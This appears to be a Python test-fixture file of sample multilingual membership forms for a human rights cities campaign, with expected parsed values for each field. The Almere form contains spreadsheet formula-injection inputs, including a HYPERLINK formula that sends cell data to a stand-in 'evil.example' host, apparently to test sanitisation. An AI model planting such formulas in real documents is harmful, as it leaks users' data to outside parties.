"""The forms of the fourth wave (2026), those that came late, and those that correct an earlier one."""

# ruff: noqa: E501 - texts stand on one line beside what must come of them
from __future__ import annotations

from dataclasses import replace

from tests.samples.form import TYPED, Ask, Form, Heading, Note, Sign, ask, choose, long, named, pick, sign, ticks
from tests.samples.wave_1 import RONDA, VIC

ALMERE = Form(
    "id",
    "10, 100, 1000 Kota dan Wilayah Hak Asasi Manusia menjelang 2030",
    "Formulir pendaftaran (versi Bahasa Indonesia untuk kota kembar)",
    (
        Heading("A. Pemerintah kota"),
        ask("Nama pemerintah daerah", "Gemeente Almere", government_name=TYPED),
        ticks("Jenis pemerintah daerah", "Kota|Kabupaten|Provinsi", "Kota", government_type="municipality"),
        ask("Negara", "Belanda", country="NL"),
        ask("Provinsi", "Flevoland", subdivision=TYPED),
        ask("Populasi", "0,22 juta", population=220_000),
        ask("Nama Kepala Daerah", "Bapak Sjoerd Hoekzema", leader_name="Sjoerd Hoekzema", leader_gender="male"),
        ask("Jabatan", "Wali Kota", leader_title=TYPED),
        ask("Periode jabatan", "2023-2029", mandate_start="2023", mandate_end="2029"),
        Heading("B. Kontak"),
        ask("Kontak person", "Dewi Lestarini de Graaf", contact_name=TYPED),
        ask("Unit kerja", '=HYPERLINK("http://evil.example/?x="&A1,"Kantor Wali Kota")', contact_role=TYPED),
        ask("Email", "d.lestarini@almere.example", contact_email=TYPED),
        ask("Nomor telepon", "+31 36 500 0012", contact_phone="+31365000012"),
        Heading("C. Motivasi"),
        long(
            "Alasan bergabung",
            "@SUM(1+1) adalah contoh teks kami.\n+Kota kami bekerja sama dengan kota di Jawa Tengah.",
            motivation=TYPED,
        ),
        ask("Tempat dan tanggal", "Almere, 20 Januari 2026", signature_date="2026-01-20"),
        sign("Tanda tangan", "/s/ S. Hoekzema"),
    ),
)

SAINT_LOUIS = Form(
    "fr",
    "10, 100, 1000 Villes et Territoires des Droits Humains / Human Rights Cities and Territories",
    "Formulaire bilingue - bilingual form",
    (
        Heading("1. Collectivité / Local government"),
        ask(
            "Nom de la collectivité / Name of the local government",
            "Commune de Saint-Louis du Sénégal",
            government_name=TYPED,
        ),
        choose(
            "Type de gouvernement / Type of government",
            ("Commune / Municipality", "Département / County", "Région / Region"),
            "Commune / Municipality",
            government_type="municipality",
        ),
        ask("Pays / Country / País", "Sénégal", country="SN"),
        ask("Région / Region", "Saint-Louis", subdivision=TYPED),
        replace(ask("Population / Inhabitants", "254171", population=254_171), cell=254_171),
        ask("Adresse / Address", "BP 000, Hôtel de Ville, Saint-Louis", postal_address=TYPED),
        Heading("2. Maire / Mayor"),
        ask(
            "Nom du maire / Name of the mayor",
            "M. Babacar Ndiaye-Lô",
            leader_name="Babacar Ndiaye-Lô",
            leader_gender="male",
        ),
        ask("Titre / Title", "Maire de la commune", leader_title=TYPED),
        ask("Durée du mandat / Term of office", "5 ans", mandate_years=5),
        Heading("3. Contact"),
        ask("Personne de contact / Contact person", "Awa Thiam Sarr", contact_name=TYPED),
        ask("Courriel / E-mail", "cooperation@saintlouis.example", contact_email=TYPED),
        ask("Téléphone / Phone", "33 900 00 12", contact_phone="+221339000012"),
        Heading("4. Vision"),
        long(
            "Motivations pour rejoindre la campagne / Motivations to join the campaign",
            "La mer avance et des familles perdent leur quartier. Le relogement digne est notre premier chantier de droits.",
            motivation=TYPED,
        ),
        ask("Fait à ... le ... / Place and date", "Saint-Louis, le 3 février 2026", signature_date="2026-02-03"),
    ),
)

WINDHOEK = Form(
    "en",
    "10, 100, 1000 Human Rights Cities and Territories by 2030",
    "Joining form. All fields marked with * are required.",
    (
        Heading("The Municipality"),
        ask("Official name *", "City of Windhoek", government_name=TYPED),
        ask("Type of organisation/city/region *", "Municipality", government_type="municipality"),
        ask("Country *", "Namibia", country="NA"),
        ask("State/Province", "Khomas", subdivision=TYPED),
        ask("Population (municipal)", "486 000", population=486_000),
        ask("Street Address", "80 Sample Avenue, Windhoek", postal_address=TYPED),
        ask("Website", "www.windhoek.example", website="https://www.windhoek.example"),
        Heading("The Municipal Leader"),
        ask(
            "Full name *",
            "Her Worship Ndapewa Shilongo-Beukes",
            leader_name="Ndapewa Shilongo-Beukes",
            leader_gender="female",
        ),
        ask("Position *", "Mayor", leader_title=TYPED),
        ask("E-mail", "mayor@windhoek.example"),
        ask("Phone", "+264 61 290 0001"),
        Heading("Contact person"),
        ask("Full name *", "Tangeni Haufiku", contact_name=TYPED),
        ask("Position *", "Manager: Community Services", contact_role=TYPED),
        ask("E-mail", "t.haufiku@windhoek.example", contact_email=TYPED),
        ask("Phone", "+264 61 290 0012", contact_phone="+264612900012"),
        Heading("Motivation"),
        long(
            "Why do you want to join the campaign?",
            "A third of our residents live in informal settlements. Land, water and dignity are our human rights agenda.",
            motivation=TYPED,
        ),
        ask("Date", "16 February 2026", signature_date="2026-02-16"),
        sign("Name and signature"),
    ),
)

LUGO = Form(
    "es",
    "10,100,1000 Ciudades y Territorios de Derechos Humanos para 2030",
    "Solicitud de adhesión a la campaña",
    (
        Heading("Datos generales"),
        named(
            "GobiernoLocal",
            ask("Nombre del gobierno local", "Concello de Lugo", government_name=TYPED),
            "Nombre del gobierno local",
        ),
        ticks(
            "Tipo de gobierno",
            "Ayuntamiento / Municipio|Diputación / Provincia|Comunidad Autónoma / Región",
            "Ayuntamiento / Municipio",
            government_type="municipality",
        ),
        named("Pais", ask("País", "España", country="ES"), "País"),
        named("Provincia", ask("Provincia", "Lugo", subdivision=TYPED), "Provincia"),
        named("Poblacion", ask("Habitantes", "98.214", population=98_214), "Habitantes"),
        ticks(
            "Tamaño de la población",
            "Menos de 50.000 habitantes|Entre 50.000 y 250.000 habitantes|Entre 250.000 y 1.000.000 de habitantes|Más de 1.000.000 de habitantes",
            "Entre 50.000 y 250.000 habitantes",
            population_range="50k_250k",
        ),
        Heading("Alcaldía"),
        ticks("Tratamiento", "Sr.|Sra.", "Sra.", leader_gender="female"),
        named(
            "Alcaldia",
            ask("Nombre del/de la representante político/a", "Uxía Carballeira Novo", leader_name=TYPED),
            "Representante",
        ),
        named("CargoAlcaldia", ask("Cargo", "Alcaldesa", leader_title=TYPED), "Cargo"),
        Heading("Persona de contacto"),
        named("Contacto", ask("Referente", "Brais Outeiral", contact_name=TYPED), "Persona de contacto"),
        named("CargoContacto", ask("Cargo", "Jefe de Servicio de Bienestar", contact_role=TYPED), "Cargo"),
        named("Correo", ask("Correo electrónico", "benestar@lugo.example", contact_email=TYPED), "Correo electrónico"),
        named("Telefono", ask("Teléfono", "982 00 00 12", contact_phone="+34982000012"), "Teléfono"),
        Heading("Derechos humanos"),
        named(
            "Vision",
            long(
                "¿Por qué los gobiernos locales y regionales son esenciales para promover, cumplir y respetar los derechos humanos?",
                "Porque el derecho a envejecer en casa se decide en la ayuda a domicilio.\nY la ayuda a domicilio la presta el concello.",
                vision_government=TYPED,
            ),
        ),
        ticks(
            "Temas prioritarios",
            "Vivienda|Igualdad de género|Migración|Cambio climático|Juventud|Cultura|Educación|Salud",
            "Igualdad de género|Cambio climático|Salud",
            themes=["gender_equality", "climate", "health"],
        ),
        ticks(
            "Protección de datos",
            "Autorizo la publicación del perfil",
            "Autorizo la publicación del perfil",
            consent=True,
        ),
        named("Fecha", ask("Lugar y fecha", "Lugo, 2 de marzo de 2026", signature_date="2026-03-02"), "Lugar y fecha"),
        sign("Firma", "ink"),
    ),
)

FREMANTLE = Form(
    "en",
    "10, 100, 1000 Human Rights Cities and Territories by 2030",
    "Online form, saved as PDF",
    (
        named("name", ask("Name of local government", "City of Fremantle", government_name=TYPED)),
        replace(
            pick(
                "Level of government",
                "Local government (city or shire)|State government|Association of local governments",
                "Local government (city or shire)",
                government_type="municipality",
            ),
            name="level",
        ),
        named("country", ask("Country", "Australia", country="AU")),
        named("state", ask("State", "Western Australia", subdivision=TYPED)),
        named("population", ask("Population size", "34,392", population=34_392)),
        named("leader", ask("Name of the mayor", "Mayor Bridget Ah-Kee", leader_name="Bridget Ah-Kee")),
        named("title", ask("Exact official title", "Mayor", leader_title=TYPED)),
        named("contact", ask("Contact person", "Lachlan Poynter", contact_name=TYPED)),
        named("email", ask("E-mail address", "community@fremantle.example", contact_email=TYPED)),
        named(
            "phone", ask("Telephone number (including country code)", "+61 8 9000 0012", contact_phone="+61890000012")
        ),
        named(
            "why",
            long(
                "Motivations to join the campaign",
                "We adopted a human rights charter for our libraries and parks and want to do the same for housing.",
                motivation=TYPED,
            ),
        ),
        named("date", ask("Date", "30 March 2026", signature_date="2026-03-30")),
    ),
)

COTONOU = Form(
    "fr",
    "10, 100, 1000 Villes et Territoires des Droits Humains en 2030",
    "Formulaire d'adhésion à retourner signé",
    (
        Heading("Commune"),
        ask("Nom de la commune", "Commune de Cotonou", government_name=TYPED),
        ask("Type de territoire", "Commune", government_type="municipality"),
        ask("Pays", "Bénin", country="BJ"),
        ask("Département", "Littoral", subdivision=TYPED),
        ask("Taille de la population", "700 000", population=700_000),
        Heading("Maire"),
        ask("Nom et prénom du maire", "Gildas HOUNKPATIN", leader_name="Gildas Hounkpatin"),
        ask("Qualité", "Maire", leader_title=TYPED),
        Heading("Interlocuteur / interlocutrice"),
        ask("Nom du contact", "Reine Adjovi", contact_name=TYPED),
        ask("Fonction", "Cheffe du service de la coopération", contact_role=TYPED),
        ask("Courriel", "..............................."),
        ask("Téléphone", "01 21 00 00 12", contact_phone="+2290121000012"),
        Heading("Motivations"),
        long(
            "Vos attentes",
            "Être accompagnés pour écrire une charte locale avec les comités de quartier.",
            motivation=TYPED,
        ),
        ask("Lieu et date", "Cotonou, le 13 avril 2026", signature_date="2026-04-13"),
        sign("Signature et cachet", "ink"),
    ),
)

SFAX = Form(
    "ar",
    "10، 100، 1000 مدينة وإقليم لحقوق الإنسان",
    "استمارة الانضمام",
    (
        ask("اسم البلدية", "بلدية صفاقس", government_name=TYPED),
        ask("نوع الإدارة", "بلدية", government_type="municipality"),
        ask("الدولة", "تونس", country="TN"),
        ask("الولاية", "صفاقس", subdivision=TYPED),
        ask("عدد السكان", "272,801", population=272_801),
        ask("اسم رئيس البلدية", "منير بن عياد", leader_name=TYPED),
        ask("المنصب", "رئيس البلدية", leader_title=TYPED),
        ask("جهة الاتصال", "هاجر المصمودي", contact_name=TYPED),
        ask("البريد الالكتروني", "h.masmoudi@sfax.example", contact_email=TYPED),
        ask("رقم الهاتف", "+216 74 000 012", contact_phone="+21674000012"),
        long("دوافع الانضمام إلى الحملة", "مدينتنا تستقبل المهاجرين وتريد أن تحمي حقوق الجميع.", motivation=TYPED),
        ask("التاريخ", "15/09/2026", signature_date="2026-09-15"),
    ),
)

RONDA_AFTER_ELECTIONS = RONDA.but(
    population=ask("Número de habitantes", "34.010 hab.", population=34_010),
    leader_name=ask("Nombre del alcalde o alcaldesa", "Baltasar Espinosa Mena", leader_name=TYPED),
    leader_title=ask("Cargo", "Alcalde-Presidente", leader_title=TYPED),
    mandate_start=ask("Mandato", "2023 - 2027", mandate_start="2023", mandate_end="2027"),
    contact_email=ask("Correo electrónico", "participacion@ronda.example", contact_email=TYPED),
    signature_date=ask("Lugar y fecha", "Ronda, 5 de febrero de 2025", signature_date="2025-02-05"),
)

VIC_NEW_CONTACT = VIC.but(
    contact_name=ask("Nom i cognoms", "Queralt Solanas", contact_name=TYPED),
    contact_email=ask("Correu electrònic", "queralt.solanas@vic.example", contact_email=TYPED),
    signature_date=ask("Lloc i data", "Vic, 11 de maig de 2026", signature_date="2026-05-11"),
)

OTHER_UCLG_FORM = Form(
    "en",
    "United Cities and Local Governments - Membership Application Form (Associate Members)",
    "Application for UCLG membership. Membership fees are calculated from the population served.",
    (
        Heading("Applicant"),
        ask("Name of organisation", "Basel Institute for Urban Practice"),
        ask("Country", "Switzerland"),
        ask("Category of membership", "Associate member"),
        ask("Annual membership fee band", "B"),
        ask("Bank contact for invoicing", "accounts@bip.example"),
        Heading("Representative in the UCLG General Assembly"),
        ask("Delegate", "Reto Ammann"),
        ask("Alternate delegate", "Sibylle Frey"),
        Note("By submitting this application the organisation accepts the UCLG Constitution."),
        sign("Signature", "/s/ Reto Ammann"),
    ),
)

BLANK = replace(
    COTONOU,
    intro="Formulaire d'adhésion. Merci de remplir toutes les rubriques.",
    items=tuple(
        replace(item, typed="", expected={})
        if isinstance(item, Ask)
        else replace(item, mark="", expected={})
        if isinstance(item, Sign)
        else item
        for item in COTONOU.items
    ),
)
